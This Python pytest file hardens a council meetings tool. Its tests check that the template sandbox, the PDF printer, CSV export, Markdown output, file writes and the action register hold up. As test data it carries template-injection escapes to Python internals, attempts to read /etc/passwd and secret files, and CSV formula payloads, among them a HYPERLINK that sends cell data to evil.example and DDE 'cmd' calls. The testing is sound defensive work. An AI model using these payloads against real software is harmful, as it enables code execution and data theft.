"""The points where hostile text or templates meet the machine: the template sandbox, the
PDF printer's fetching, CSV cells, Markdown, file writes, and the action register."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import importlib.util
import io
import multiprocessing
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from meetings import files, render, text
from meetings.cli import main
from meetings.errors import MeetingsError, RegisterError, RenderError
from meetings.register import Register, open_register

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "oadby-wigston"
HELD = EXAMPLE / "meetings" / "2019-01-15-change-management.toml"
AGENDA = EXAMPLE / "meetings" / "2019-03-05-change-management.toml"


# -- templates ----------------------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Iterator[Path]:
    (tmp_path / "agenda").mkdir()
    render.environment.cache_clear()
    yield tmp_path
    render.environment.cache_clear()


def run_template(folder: Path, source: str) -> str:
    (folder / "agenda" / "agenda.html").write_text(source, encoding="utf-8")
    render.environment.cache_clear()
    return render.render("agenda/agenda.html", {"n": 3}, template_dir=folder)


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("{{ 10 ** 100000000 }}", "a power of 100000000"),
        (
            "{% set ns = namespace(x=10) %}{% for i in range(9) %}{% set ns.x = ns.x ** 999 %}"
            "{% endfor %}{{ ns.x }}",
            "a number of more than 100,000 bits",
        ),
        ("{{ 'x' * 10 ** 9 }}", "repeating a text"),
        ("{{ [1] * 10 ** 9 }}", "repeating a text or list"),
        ("{% for i in range(10 ** 6) %}x{% endfor %}", "range() of 1000000 items"),
        ("{{ 'x' | center(10 ** 9) }}", "the number 1000000000 is too large"),
        ("{{ 'x'.ljust(10 ** 9) }}", "the number 1000000000 is too large"),
        ("{{ 'x' | indent(10 ** 9) }}", "the number 1000000000 is too large"),
        ("{{ '%s' | format('x' * 10 ** 8) }}", "repeating a text"),
    ],
)
def test_a_template_cannot_exhaust_the_machine(folder: Path, source: str, reason: str) -> None:
    with pytest.raises(RenderError) as caught:
        run_template(folder, source)
    assert "agenda/agenda.html" in str(caught.value)
    assert "stopped" in str(caught.value)
    assert reason in str(caught.value)


def test_a_template_is_stopped_after_its_time(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(render, "MAX_SECONDS", 0.2)
    for loops in (
        "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
        # no range(), no output: the alarm stops it
        "{% for i in 'x' * 100000 %}{% for j in 'x' * 100000 %}{% endfor %}{% endfor %}",
    ):
        with pytest.raises(RenderError, match=r"agenda/agenda.html.*stopped: it ran for more"):
            run_template(folder, loops)
    assert signal.getsignal(signal.SIGALRM) == signal.SIG_DFL  # put back as it was


def test_a_template_is_stopped_at_its_size(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(render, "MAX_OUTPUT", 10_000)
    with pytest.raises(RenderError, match="stopped: its output passed 10,000 characters"):
        run_template(folder, "{% for i in range(5000) %}{{ 'abc' }}{% endfor %}")
    assert run_template(folder, "{% for i in range(100) %}ab{% endfor %}") == "ab" * 100


def test_a_template_cannot_read_outside_its_folder(
    folder: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    secret = tmp_path_factory.mktemp("elsewhere") / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER", encoding="utf-8")
    (folder / "agenda" / "secret.html").symlink_to(secret)
    (folder / "agenda" / "passwd.html").symlink_to("/etc/passwd")
    (folder / "up").symlink_to(secret.parent, target_is_directory=True)
    for source in (
        "{% include 'agenda/secret.html' %}",
        "{% include 'agenda/passwd.html' %}",
        "{% include 'up/secret.txt' %}",
        "{% include '../elsewhere/secret.txt' %}",
        "{% include '/etc/passwd' %}",
        "{% import 'agenda/passwd.html' as p %}",
        "{% extends 'agenda/secret.html' %}",
    ):
        with pytest.raises(RenderError) as caught:
            run_template(folder, source)
        assert "TOP-SECRET-MARKER" not in str(caught.value)
        assert "root:" not in str(caught.value)


def test_a_template_may_include_its_own_folder(folder: Path) -> None:
    (folder / "agenda" / "part.html").write_text("part {{ n }}", encoding="utf-8")
    (folder / "agenda" / "link.html").symlink_to(folder / "agenda" / "part.html")
    assert run_template(folder, "{% include 'agenda/link.html' %}!") == "part 3!"


@pytest.mark.parametrize(
    "source",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ n.__class__.__base__ }}",
        "{{ self._TemplateReference__context }}",
    ],
)
def test_a_template_cannot_reach_python(folder: Path, source: str) -> None:
    with pytest.raises(RenderError, match=r"agenda/agenda\.html"):
        run_template(folder, source)


def test_the_cli_names_the_stopped_template(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copytree(EXAMPLE, tmp_path / "ws")
    (tmp_path / "t" / "agenda").mkdir(parents=True)
    (tmp_path / "t" / "agenda" / "agenda.html").write_text("{{ 9 ** 99999 }}", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    render.environment.cache_clear()
    meeting = "ws/meetings/2019-03-05-change-management.toml"
    assert main(["agenda", meeting, "--templates", "t", "-o", "a.html"]) == 1
    err = capsys.readouterr().err
    assert "agenda/agenda.html, line 1: stopped: a power of 99999" in err
    assert not (tmp_path / "a.html").exists()


# -- the PDF printer fetches nothing ---------------------------------------------------------


def pdf_text(pdf: bytes) -> bytes:
    """The PDF with every compressed stream inflated, to search for leaked bytes."""
    out = [pdf]
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", pdf, re.S):
        try:
            out.append(zlib.decompress(match.group(1)))
        except zlib.error:
            continue
    return b"\n".join(out)


def test_the_pdf_printer_fetches_nothing_from_outside(tmp_path: Path) -> None:
    """/etc/passwd and a secret file of the test's, attached in every way HTML and CSS allow,
    directly and through links in the allowed folder: no byte of either is in the PDF. A file
    in the allowed folder, attached the same way, is (so the search would find a leak)."""
    if importlib.util.find_spec("weasyprint") is None:
        pytest.skip("the pdf extra is not installed")
    from meetings.printing import html_to_pdf  # noqa: PLC0415

    base, elsewhere = tmp_path / "base", tmp_path / "elsewhere"
    base.mkdir()
    elsewhere.mkdir()
    secret = elsewhere / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER", encoding="utf-8")
    (base / "link.txt").symlink_to(secret)
    (base / "passwd.txt").symlink_to("/etc/passwd")
    (base / "own.txt").write_text("ALLOWED-MARKER", encoding="utf-8")
    targets = [
        "file:///etc/passwd",
        secret.as_uri(),
        "link.txt",
        "passwd.txt",
        "../elsewhere/secret.txt",
        "http://127.0.0.1:9/x",
    ]
    ways = [
        '<img src="{u}">',
        '<link rel="stylesheet" href="{u}">',
        "<style>@import url('{u}');</style>",
        "<style>@import '{u}';</style>",
        "<style>body {{ background: url('{u}') }}</style>",
        "<style>@font-face {{ font-family: x; src: url('{u}') }} p {{ font-family: x }}</style>",
        "<style>li {{ list-style-image: url('{u}') }}</style><ul><li>x</li></ul>",
        '<object data="{u}" type="text/plain"></object>',
        '<embed src="{u}" type="text/plain">',
        '<iframe src="{u}"></iframe>',
        '<link rel="attachment" href="{u}">',
        '<a rel="attachment" href="{u}">attached</a>',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="{u}" width="9" height="9"/></svg>',
        '<img srcset="{u} 1x">',
        "<div style=\"background-image: url('{u}')\">x</div>",
    ]
    body = "".join(way.format(u=target) for way in ways for target in targets)
    html = f"<html lang='en-GB'><head><title>t</title></head><body><p>Hello</p>{body}</body></html>"
    content = pdf_text(html_to_pdf(html, base_url=base))
    assert b"TOP-SECRET-MARKER" not in content
    assert b"root:x:0:0" not in content
    assert b"/bin/bash" not in content
    control = '<html lang="en-GB"><body><a rel="attachment" href="own.txt">a</a></body></html>'
    assert b"ALLOWED-MARKER" in pdf_text(html_to_pdf(control, base_url=base))


def test_a_template_the_printer_cannot_print_is_an_error(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    if importlib.util.find_spec("weasyprint") is None:
        pytest.skip("the pdf extra is not installed")
    # papers are printed with no base folder: a relative url() has nothing to resolve against
    (folder / "agenda" / "agenda.html").write_text(
        "<html lang='en-GB'><head><style>@import url('x.css');</style></head><body>x</body></html>",
        encoding="utf-8",
    )
    status = main(["agenda", str(AGENDA), "--templates", str(folder), "-o", str(folder / "a.pdf")])
    err = capsys.readouterr().err
    assert status == 1
    assert "template agenda/agenda.html cannot be printed" in err
    assert "Traceback" not in err


# -- CSV cells --------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_never_start_a_formula(value: str) -> None:
    cell = text.csv_cell(value)
    assert cell == "'" + value
    assert not cell.startswith(text.FORMULA_STARTS)
    assert text.csv_value(cell) == value


def test_plain_csv_cells_are_unchanged() -> None:
    for value in ("Council", "2019-05-14", "19:00", "O'Brien", "'quoted'", "", "a=b"):
        assert text.csv_cell(value) == value
        assert text.csv_value(text.csv_cell(value)) == value


def test_the_schedule_csv_is_safe_and_reads_back(tmp_path: Path) -> None:
    from meetings import timetable  # noqa: PLC0415
    from meetings.definitions import load_council  # noqa: PLC0415
    from meetings.planner import plan_schedule  # noqa: PLC0415

    council = load_council(EXAMPLE / "council.toml")
    plan = plan_schedule(council)
    import attrs  # noqa: PLC0415

    hostile = [
        attrs.evolve(m, title=HOSTILE[i % len(HOSTILE)] + " Council")
        for i, m in enumerate(plan.meetings)
    ]
    plan = attrs.evolve(plan, meetings=tuple(hostile))
    data = timetable.to_csv(plan, council).decode()
    for row in list(csv.reader(io.StringIO(data)))[1:]:
        assert not any(cell.startswith(text.FORMULA_STARTS) for cell in row), row
    path = tmp_path / "schedule.csv"
    path.write_text(data, encoding="utf-8")
    back = timetable.load_schedule(path, council)
    assert sorted(m.title for m in back.meetings) == sorted(m.title for m in plan.meetings)


# -- Markdown ---------------------------------------------------------------------------------

NASTY = "# Heading | cell <script>alert(1)</script>\n## two\n- list [link](http://x) ![i](y) &lt;"


def assert_inert_markdown(md: str, nasty: str = NASTY) -> None:
    assert "<script>" not in md
    assert "\n# Heading" not in md
    assert "\n## two" not in md
    assert "[link](http" not in md
    assert "![i]" not in md
    assert "&lt;" not in md.replace("\\&lt;", "")
    for line in md.splitlines():
        if line.startswith("|") and "Heading" in line:  # one table row, its cells intact
            assert "\\|" in line


def test_md_text_keeps_text_as_text() -> None:
    out = text.md_text(NASTY)
    assert "\n" not in out
    assert out.startswith("\\# Heading \\| cell \\<script\\>")
    assert text.md_text("- item") == "\\- item"
    assert text.md_text("2019. A year") == "2019\\. A year"
    assert text.md_text("Law & Governance") == "Law & Governance"
    assert render.md_text is text.md_text  # one escaper


def test_the_schedule_report_is_inert() -> None:
    import attrs  # noqa: PLC0415

    from meetings import schedule  # noqa: PLC0415
    from meetings.definitions import load_council  # noqa: PLC0415
    from meetings.planner import plan_schedule  # noqa: PLC0415
    from meetings.rules import Severity  # noqa: PLC0415

    plan = plan_schedule(load_council(EXAMPLE / "council.toml"))
    first = attrs.evolve(plan.meetings[0], title=NASTY, reasons=(NASTY,))
    plan = attrs.evolve(
        plan,
        meetings=(first, *plan.meetings[1:]),
        breaches=(schedule.Breach(rule=NASTY, severity=Severity.SOFT, uid=None, detail=NASTY),),
    )
    report = schedule.schedule_report(plan)
    assert_inert_markdown(report)
    header = next(line for line in report.splitlines() if line.startswith("| Date"))
    row = next(line for line in report.splitlines() if "Heading" in line and line.startswith("|"))
    assert len(re.findall(r"(?<!\\)\|", row)) == len(re.findall(r"(?<!\\)\|", header))


def test_actions_list_and_papers_are_inert(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copytree(EXAMPLE, tmp_path, dirs_exist_ok=True)
    monkeypatch.chdir(tmp_path)
    held = Path("meetings/2019-01-15-change-management.toml")
    flat = NASTY.replace("\n", " ")
    held.write_text(
        held.read_text(encoding="utf-8")
        .replace('title = "Petitions and Deputations"', f"title = {flat!r}".replace("'", '"'))
        .replace('text = "None."', f"text = {NASTY!r}".replace("'", '"')),
        encoding="utf-8",
    )
    assert main(["minutes", str(held), "--format", "md"]) == 0
    assert_inert_markdown(capsys.readouterr().out)
    assert main(["actions", "import", str(held)]) == 0
    capsys.readouterr()
    args = ["actions", "add", "--council", "council.toml", "--raised", "2019-01-15"]
    args += ["--details", NASTY, "--title", flat, "--reference", "x|y"]
    assert main(args) == 0
    capsys.readouterr()  # what add says to the terminal is not Markdown
    assert main(["actions", "list", "--council", "council.toml", "--today", "2019-02-01"]) == 0
    listing = capsys.readouterr().out
    assert_inert_markdown(listing)
    columns = listing.splitlines()[0].count("|")
    assert all(re.sub(r"\\\|", "", line).count("|") == columns for line in listing.splitlines())
    agenda = "meetings/2019-03-05-change-management.toml"
    assert main(["action-list", agenda, "--format", "md", "--today", "2019-02-25"]) == 0
    assert_inert_markdown(capsys.readouterr().out)


# -- writing files ---------------------------------------------------------------------------


def test_a_write_is_all_or_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "schedule.ics"
    files.write_atomic(target, b"old feed")

    def full_disk(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(MeetingsError, match=r"schedule\.ics: cannot write: the disk is full"):
        files.write_atomic(target, b"new feed, half written")
    monkeypatch.undo()
    assert target.read_bytes() == b"old feed"
    assert [p.name for p in tmp_path.iterdir()] == ["schedule.ics"]  # no temporary left

    def crash(src: str, dst: str) -> None:
        raise KeyboardInterrupt  # killed between writing and renaming

    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(KeyboardInterrupt):
        files.write_atomic(target, "new")
    monkeypatch.undo()
    assert target.read_bytes() == b"old feed"
    assert [p.name for p in tmp_path.iterdir()] == ["schedule.ics"]
    files.write_atomic(target, "new feed")
    assert target.read_text(encoding="utf-8") == "new feed"


def test_a_write_keeps_the_usual_permissions(tmp_path: Path) -> None:
    path = files.write_atomic(tmp_path / "page.html", "x")
    mask = os.umask(0)
    os.umask(mask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~mask


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("x" * 300 + ".ics", "too long"),
        ("missing/feed.ics", "there is no such folder"),
        ("afile/feed.ics", "a part of the path is a file"),
        (".", "it is a folder"),
        ("bad\ud800name.ics", "cannot be encoded"),
        ("bad\x00name.ics", "cannot hold a NUL"),
    ],
)
def test_a_write_that_cannot_happen_says_why(tmp_path: Path, name: str, reason: str) -> None:
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    with pytest.raises(MeetingsError, match=reason):
        files.write_atomic(tmp_path / name, b"data", label=f"-o {name}")


def test_a_folder_that_cannot_be_written_says_why(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def denied(*_args: object, **_kwargs: object) -> tuple[int, str]:
        raise PermissionError(errno.EACCES, "Permission denied")

    # root may write anywhere, so the refusal is simulated where the file is created
    monkeypatch.setattr("meetings.files.tempfile.mkstemp", denied)
    with pytest.raises(MeetingsError, match="permission denied: this folder cannot be written"):
        files.write_atomic(tmp_path / "feed.ics", b"x", label="--out site")


def test_a_folder_that_cannot_be_made_says_why(tmp_path: Path) -> None:
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    with pytest.raises(MeetingsError, match="is a file, not a folder"):
        files.make_folder(tmp_path / "afile")
    with pytest.raises(MeetingsError, match="a part of the path is a file"):
        files.make_folder(tmp_path / "afile" / "sub")


def test_every_publication_is_written_atomically(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    written: list[str] = []
    real = files.write_atomic

    def spy(path: str | Path, data: bytes | str, *, label: str = "") -> Path:
        written.append(Path(path).name)
        return real(path, data, label=label)

    monkeypatch.setattr(files, "write_atomic", spy)
    out = tmp_path / "out"
    args = ["schedule", str(EXAMPLE / "council.toml"), "--out", str(out)]
    assert main([*args, "--stamp", "2019-03-01T09:00:00Z"]) == 0
    made = sorted(p.name for p in out.iterdir())
    assert sorted(written) == made
    assert "report.md" in made
    assert "schedule.ics" in made


# -- the register ------------------------------------------------------------------------------


def _register_with_actions(path: Path) -> None:
    assert main(["actions", "import", str(HELD), "--register", str(path)]) == 0


def test_another_programs_database_is_refused_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "places.sqlite"
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT)")
    con.commit()
    con.close()
    before = path.read_bytes()
    with pytest.raises(RegisterError, match=r"not an action register of meetings.*moz_places"):
        Register(path)
    assert path.read_bytes() == before
    assert not (tmp_path / "places.sqlite-wal").exists()


def test_a_read_only_register_can_be_listed_and_exported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "r.sqlite"
    _register_with_actions(path)
    with Register(path) as register:  # as a backup copy would be: one file, no -wal or -shm
        register._con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    for extra in ("r.sqlite-wal", "r.sqlite-shm"):
        (tmp_path / extra).unlink(missing_ok=True)
    capsys.readouterr()
    # root may write anything, so the read-only share is simulated at the permission check
    monkeypatch.setattr("meetings.register.os.access", lambda *_a, **_k: False)
    assert main(["actions", "list", "--register", str(path), "--today", "2019-02-01"]) == 0
    assert "Introduction of Paperless Committee Meetings" in capsys.readouterr().out
    assert main(["actions", "export", "-", "--register", str(path)]) == 0
    assert '"key": "change-management/2019-01-15/17/1"' in capsys.readouterr().out
    assert main(["actions", "update", "1", "--status", "Completed", "--register", str(path)]) == 1
    assert "read-only" in capsys.readouterr().err
    with open_register(path, create=False) as register:
        assert register.read_only


def test_a_damaged_register_says_how_to_recover(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "r.sqlite"
    _register_with_actions(path)
    with Register(path) as register:
        register._con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    data = bytearray(path.read_bytes())
    data[4096:8192] = b"\xff" * 4096  # a page of the actions table overwritten
    path.write_bytes(bytes(data))
    capsys.readouterr()
    status = main(["actions", "list", "--register", str(path)])
    err = capsys.readouterr().err
    assert status == 1
    assert "PRAGMA integrity_check" in err
    assert "meetings actions load" in err
    assert "Traceback" not in err


def _add_same_origin(args: tuple[str, int]) -> int:
    register, worker = args
    return main(
        [
            "actions", "add", "--register", register, "--raised", "2019-01-15",
            "--title", "Budget", "--reference", "complaint 42", "--details", f"worker {worker}",
        ]
    )  # fmt: skip


def test_concurrent_adds_of_one_origin_all_succeed(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    open_register(path).close()
    context = multiprocessing.get_context("spawn")
    with context.Pool(4) as pool:
        results = pool.map(_add_same_origin, [(str(path), i) for i in range(12)])
    assert results == [0] * 12
    with open_register(path, create=False) as register:
        actions = register.find()
    assert sorted(a.index for a in actions) == list(range(1, 13))
    assert sorted(a.details for a in actions) == sorted(f"worker {i}" for i in range(12))


# -- a broken pipe -----------------------------------------------------------------------------


def test_a_broken_pipe_ends_quietly(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    _register_with_actions(path)
    for i in range(300):  # more than a pipe buffer of output
        _add = ["actions", "add", "--register", str(path), "--raised", "2019-01-15"]
        assert main([*_add, "--title", "t", "--reference", f"r{i}", "--details", "d" * 200]) == 0
    command = [sys.executable, "-m", "meetings", "actions", "list", "--register", str(path)]
    producer = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert producer.stdout is not None
    producer.stdout.readline()
    producer.stdout.close()  # as `head -1` does
    _out, err = producer.communicate(timeout=60)
    assert err == b""
    assert producer.returncode == 0


def test_dates_in_the_supported_years_only() -> None:
    from meetings import guards  # noqa: PLC0415

    assert guards.year_problem(2019) is None
    assert "outside the years meetings supports (1900 to 2199)" in str(guards.year_problem(0))
    with pytest.raises(ValueError, match="--year"):
        guards.check_year(dt.MAXYEAR, "--year")
